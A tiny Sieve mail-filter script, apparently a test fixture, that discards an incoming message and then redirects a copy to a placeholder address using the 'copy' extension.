require ["copy"];
discard;
redirect :copy "carol@example.net";
